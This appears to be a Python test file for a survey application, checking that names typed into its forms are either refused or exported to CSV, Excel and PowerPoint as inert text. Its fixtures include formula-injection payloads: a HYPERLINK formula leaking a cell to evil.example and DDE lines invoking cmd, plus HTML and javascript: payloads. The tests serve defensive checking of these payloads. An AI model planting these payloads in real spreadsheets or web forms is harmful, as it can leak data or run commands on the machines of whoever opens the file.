"""Hostile names (issue 11): a name that cannot be shown — NUL, control or text-direction
characters, 10,000 characters — is refused at the field of every workspace form with the
reason; a name that is valid but looks dangerous — a spreadsheet formula, markup, a
javascript: address — is kept as typed and comes back from every table Spindel writes as
text nobody's spreadsheet evaluates: results.csv, results.xlsx, the raw answers, the deck's
chart workbooks and the personal-links CSV. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from openpyxl import Workbook, load_workbook
from pptx import Presentation
from sqlalchemy import select

from spindel import instrument as instruments
from spindel.extensions import db
from spindel.models import ApiToken, District, Profession, Project, Round
from spindel.services.spreadsheet_cells import append_inert, inert
from tests.conftest import post_form

FORMULAS = {
    "HYPERLINK formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "command after +": "+cmd|' /C calc'!A0",
    "function after @": "@SUM(1+1)",
    "command after -": "-2+3+cmd|' /C calc'!A0",
}
MARKUP = {
    "link markup": '<a href="https://evil.example/phish">x</a>',
    "javascript: address": "javascript:alert(1)",
    "web address": "https://evil.example/phish",  # xlsxwriter would make it a link
}
DANGEROUS = {**FORMULAS, **MARKUP}  # valid names: stored as typed, written inert
UNSHOWABLE = {  # refused where typed
    "NUL": "Norr\x00",
    "bell": "Norr\x07Söder",
    "terminal escape": "\x1b[31mNorr",
    "line break": "Norr\nSöder",
    "tab inside": "Norr\tSöder",
    "right-to-left override": "Norr\u202egpj.exe",
    "zero-width space": "No\u200brr",
    "10,000 characters": "x" * 10_000,
}
CONTROL_SV = "Här finns ett osynligt styrtecken eller riktningstecken"
CONTROL_EN = "This contains an invisible control or text-direction character"
NUL_SV = "innehåller ett tecken som inte kan användas (en nollbyte)"
STARTERS = ("=", "+", "-", "@", "\t", "\r")


def written(name: str) -> str:
    """How a spreadsheet must get a name: behind a quote if it would start a formula."""
    return "'" + name if name in FORMULAS.values() else name


@pytest.fixture
def app(app, backend):
    """Every test here on SQLite and on PostgreSQL."""
    return app


# --- where a name is typed ------------------------------------------------------------------


@dataclass
class Place:
    """A workspace form a name enters through: where to post, what to post with the name
    in it (n makes keys, slugs and numbers unique), every name stored there, and the page
    that shows them."""

    url: Callable[[Project], str]
    data: Callable[[Project, str, int], dict]
    stored: Callable[[Project], list[str]]
    page: Callable[[Project], str]
    max_length: int = 200
    line_breaks: bool = False
    ok: int = 302


def _project_fields(project, name, description="", slug=None):
    return {"name": name, "slug": slug or project.slug, "description": description,
            "instrument": instruments.default_ident(), "min_group_size": "5"}


def _all(column) -> Callable[[Project], list[str]]:
    return lambda project: list(db.session.scalars(select(column)))


def _project_page(project) -> str:
    return f"/projects/{project.slug}"


def _profession(project) -> Profession:
    return project.professions[0]


PLACES = {
    "new project: name": Place(
        lambda p: "/projects/new",
        lambda p, text, n: _project_fields(p, text, slug=f"ny-{n}"),
        _all(Project.name), lambda p: "/workspace"),
    "new project: description": Place(
        lambda p: "/projects/new",
        lambda p, text, n: _project_fields(p, "Nytt", text, slug=f"ny-{n}"),
        _all(Project.description), lambda p: "/workspace", max_length=2000,
        line_breaks=True),
    "project: name": Place(
        _project_page, lambda p, text, n: _project_fields(p, text),
        _all(Project.name), _project_page),
    "project: description": Place(
        _project_page, lambda p, text, n: _project_fields(p, p.name, text),
        _all(Project.description), lambda p: "/workspace", max_length=2000,
        line_breaks=True),
    "new district": Place(
        lambda p: f"/projects/{p.slug}/districts",
        lambda p, text, n: {"name": text, "key": f"d{n}"}, _all(District.name),
        _project_page),
    "district renamed": Place(
        lambda p: f"/projects/{p.slug}/districts/{p.districts[0].id}",
        lambda p, text, n: {"name": text}, _all(District.name), _project_page),
    "new profession: Swedish name": Place(
        lambda p: f"/projects/{p.slug}/professions",
        lambda p, text, n: {"name_sv": text, "name_en": "", "key": f"p{n}"},
        _all(Profession.name_sv), _project_page),
    "new profession: English name": Place(
        lambda p: f"/projects/{p.slug}/professions",
        lambda p, text, n: {"name_sv": f"Yrke {n}", "name_en": text, "key": f"p{n}"},
        _all(Profession.name_en), lambda p: f"/projects/{p.slug}?lang=en"),
    "profession renamed": Place(
        lambda p: f"/projects/{p.slug}/professions/{_profession(p).id}",
        lambda p, text, n: {"name_sv": text, "name_en": text}, _all(Profession.name_sv),
        _project_page),
    "new round": Place(
        lambda p: f"/projects/{p.slug}/rounds/new",
        lambda p, text, n: {"number": str(10 + n), "label": text}, _all(Round.label),
        _project_page),
    "round renamed": Place(
        lambda p: f"/projects/{p.slug}/rounds/1/edit",
        lambda p, text, n: {"number": "1", "label": text}, _all(Round.label),
        lambda p: f"/projects/{p.slug}/rounds/1"),
    "API token": Place(
        lambda p: "/account/tokens", lambda p, text, n: {"name": text}, _all(ApiToken.name),
        lambda p: "/account", max_length=100, ok=200),
}


@pytest.mark.parametrize("where", PLACES)
def test_a_dangerous_looking_name_is_kept_as_typed_and_shown_as_text(client, login_as,
                                                                     make_project, where):
    place = PLACES[where]
    project = make_project()
    login_as(projects=[project])
    for n, (kind, text) in enumerate(DANGEROUS.items()):
        reply = post_form(client, place.url(project), place.data(project, text, n))
        assert reply.status_code == place.ok, (kind, reply.get_data(as_text=True)[:2000])
        db.session.expire_all()
        assert text in place.stored(project), kind
        page = client.get(place.page(project))
        assert page.status_code == 200, kind
        html = page.get_data(as_text=True)
        assert "<a href=\"https://evil.example" not in html, kind  # shown, not a link
        if text == MARKUP["link markup"]:
            assert "&lt;a href=&#34;https://evil.example/phish&#34;&gt;x&lt;/a&gt;" in html


@pytest.mark.parametrize("where", PLACES)
def test_a_name_that_cannot_be_shown_is_refused_at_the_field_with_the_reason(
        client, login_as, make_project, where):
    place = PLACES[where]
    project = make_project()
    login_as(projects=[project])
    for n, (kind, text) in enumerate(UNSHOWABLE.items()):
        if place.line_breaks and kind in ("line break", "tab inside"):
            continue  # a description keeps its paragraphs (see the next test)
        before = sorted(place.stored(project))
        reply = post_form(client, place.url(project), place.data(project, text, n))
        html = reply.get_data(as_text=True)
        if "\x00" in text:  # refused for the whole request, before any form sees it
            assert reply.status_code == 400, kind  # never a 500, also not on PostgreSQL
            assert NUL_SV in html, kind
        elif len(text) > place.max_length:
            assert reply.status_code == 422, kind
            assert f"Högst {place.max_length} tecken." in html, kind
        else:
            assert reply.status_code == 422, kind
            assert CONTROL_SV in html, kind
        db.session.expire_all()
        assert sorted(place.stored(project)) == before, kind


def test_the_reason_is_given_in_english_too(client, login_as, make_project):
    project = make_project()
    login_as(projects=[project])
    client.get("/workspace?lang=en")
    reply = post_form(client, f"/projects/{project.slug}/districts",
                      {"name": "Norr\u202egpj.exe"})
    assert reply.status_code == 422
    assert CONTROL_EN in reply.get_data(as_text=True)
    reply = post_form(client, f"/projects/{project.slug}/districts", {"name": "x" * 201})
    assert "At most 200 characters." in reply.get_data(as_text=True)


def test_a_description_keeps_its_line_breaks_and_a_name_is_trimmed_and_composed(
        client, login_as, make_project):
    project = make_project()
    login_as(projects=[project])
    reply = post_form(client, f"/projects/{project.slug}", _project_fields(
        project, "  Samverkan i Ska\u0308rholmen  ", "Första stycket.\r\n\r\nAndra\tstycket."))
    assert reply.status_code == 302
    db.session.expire_all()
    assert project.name == "Samverkan i Skärholmen"  # one Unicode form, as typed elsewhere
    assert project.description == "Första stycket.\r\n\r\nAndra\tstycket."


def test_a_key_or_short_name_with_a_line_break_at_its_end_is_refused(client, login_as,
                                                                      make_project):
    project = make_project()
    login_as(projects=[project])
    assert post_form(client, f"/projects/{project.slug}/districts",
                     {"name": "Väster", "key": "west\n"}).status_code == 422
    assert post_form(client, "/projects/new", _project_fields(
        project, "Nytt", slug="nytt\n")).status_code == 422
    db.session.expire_all()
    assert [d.key for d in project.districts] == ["north", "south"]


# --- what comes out -------------------------------------------------------------------------

ROUND_WITH_GROUPS = len(DANGEROUS)  # the last round: every profession and district shown


@pytest.fixture
def hostile_project(client, login_as, add_answer):
    """A project set up through the workspace forms with a dangerous name everywhere: the
    project, one district and one profession per name, one round per name. Each round's
    whole is shown (k = 3); the last round also shows every profession and district."""
    login_as(admin=True)  # the raw answers are for admins
    names = list(DANGEROUS.values())

    def ok(url, data):
        reply = post_form(client, url, data)
        assert reply.status_code == 302, reply.get_data(as_text=True)[:2000]

    ok("/projects/new", {"name": FORMULAS["HYPERLINK formula"], "slug": "hostile",
                         "description": MARKUP["link markup"],
                         "instrument": instruments.default_ident(), "min_group_size": "3"})
    for name in names:
        ok("/projects/hostile/districts", {"name": name})
        ok("/projects/hostile/professions", {"name_sv": name, "name_en": name})
    for number, name in enumerate(names, start=1):
        ok("/projects/hostile/rounds/new", {"number": str(number), "label": name})
    project = db.session.scalar(select(Project).where(Project.slug == "hostile"))
    districts = {d.name: d.key for d in project.districts}
    professions = {p.name_sv: p.key for p in project.professions}
    items = instruments.for_project(project).item_keys
    for round_ in project.rounds:
        pairs = names if round_.number == ROUND_WITH_GROUPS else names[:1]
        for i, name in enumerate(pairs):
            for j in range(3):
                add_answer(round_, profession=professions[name], district=districts[name],
                           ratings={key: 1 + (i + j + x) % 10 for x, key in enumerate(items)})
        ok(f"/projects/hostile/rounds/{round_.number}/state", {"action": "close"})
    db.session.expire_all()
    return project


def assert_inert(texts, where: str) -> None:
    """No text starts a formula; every dangerous name is there, readable."""
    texts = set(texts)
    for text in texts:
        assert not text.startswith(STARTERS) or _is_number(text), (where, text)
    for kind, name in DANGEROUS.items():
        assert written(name) in texts, (where, kind)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def workbook_texts(data: bytes, where: str) -> list[str]:
    """Every text cell of a workbook, after checking that no cell is a formula or a link and
    that numbers are numbers."""
    book = load_workbook(io.BytesIO(data))
    texts, numbers = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (where, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers += 1
    assert numbers, where  # figures stay numbers
    return texts


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_results_csv_gives_every_name_back_as_text_no_spreadsheet_evaluates(
        client, hostile_project, lang):
    reply = client.get(f"/projects/hostile/exports/results.csv?lang={lang}")
    assert reply.status_code == 200
    # Swedish for Swedish Excel (semicolons), English for scripts (commas).
    rows = list(csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig")),
                           delimiter=";" if lang == "sv" else ","))
    assert_inert((cell for row in rows for cell in row), "results.csv")
    groups = {row[4] for row in rows[1:]}
    assert written(MARKUP["link markup"]) in groups  # the group column holds the name


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_results_xlsx_has_no_formula_and_shows_every_name(client, hostile_project, lang):
    reply = client.get(f"/projects/hostile/exports/results.xlsx?lang={lang}")
    assert reply.status_code == 200
    texts = workbook_texts(reply.get_data(), "results.xlsx")
    assert_inert(texts, "results.xlsx")
    assert texts[0] == written(FORMULAS["HYPERLINK formula"])  # the project's name, on top


def test_the_raw_answers_workbook_has_no_formula(client, hostile_project):
    # Keys are made from names (letters, digits, _), so here a key only an older database
    # or a script could hold stands for whatever reaches the raw answers.
    district = hostile_project.districts[0]
    district.key = FORMULAS["command after -"]
    db.session.commit()
    reply = client.get("/projects/hostile/exports/raw-answers.xlsx?lang=en")
    assert reply.status_code == 200
    texts = workbook_texts(reply.get_data(), "raw answers")
    assert written(FORMULAS["command after -"]) in texts
    assert not [t for t in texts if t.startswith(STARTERS)]


def test_the_decks_chart_workbooks_hold_the_names_as_text_and_the_slides_as_typed(
        client, hostile_project):
    reply = client.get(f"/projects/hostile/exports/deck.pptx?round={ROUND_WITH_GROUPS}")
    assert reply.status_code == 200, reply.get_data(as_text=True)[:2000]
    deck = Presentation(io.BytesIO(reply.get_data()))
    charts = [shape.chart for slide in deck.slides for shape in slide.shapes
              if shape.has_chart]
    assert len(charts) >= 5  # rounds, professions, districts, dimensions, agreement, trend
    texts, labels = [], set()
    for chart in charts:
        blob = chart.part.chart_workbook.xlsx_part.blob
        texts += workbook_texts(blob, "deck")
        labels |= {str(c) for c in chart.plots[0].categories}
        labels |= {s.name for s in chart.plots[0].series}
    # Legends and round axes name a group with its answers: "Norr (6 svar)".
    assert_inert([without_count(t) for t in texts], "the deck's chart workbooks")
    assert not [t for t in texts if t.startswith(STARTERS)]
    # On the slides: the names as typed.
    assert set(DANGEROUS.values()) <= {without_count(label) for label in labels}


def without_count(text: str) -> str:
    """A legend's name without the count of answers after it."""
    return re.sub(r" \((?:pågår, |open, )?[\d\u00a0 ]+ (?:svar|answers)\)$", "", text)


def test_the_personal_links_csv_gives_the_round_label_as_text(client, hostile_project):
    for number, (kind, name) in enumerate(DANGEROUS.items(), start=1):
        reply = post_form(client, f"/projects/hostile/rounds/{number}/codes", {"count": "2"})
        assert reply.status_code == 200, kind
        rows = list(csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig")),
                               delimiter=";"))
        assert [row[1] for row in rows[1:]] == [written(name)] * 2, kind
        assert all(not cell.startswith(STARTERS) for row in rows for cell in row), kind


# --- the rule itself ------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("Norr", "Norr"), ("a=1", "a=1"), (" =1", " =1"), ("", ""),
    (-1.5, -1.5), (0, 0), (None, None),
    ("Norr\x00\x07", "Norr\ufffd\ufffd"),  # a workbook cannot hold them; never a crash
])
def test_the_rule_quotes_what_a_spreadsheet_would_evaluate_and_leaves_numbers(value,
                                                                             expected):
    assert inert(value) == expected


def test_openpyxl_gets_text_not_a_formula():
    sheet = Workbook().active
    append_inert(sheet, ["=SUM(A2:A3)", 3, "plain"])
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        ("'=SUM(A2:A3)", "s"), (3, "n"), ("plain", "s")]
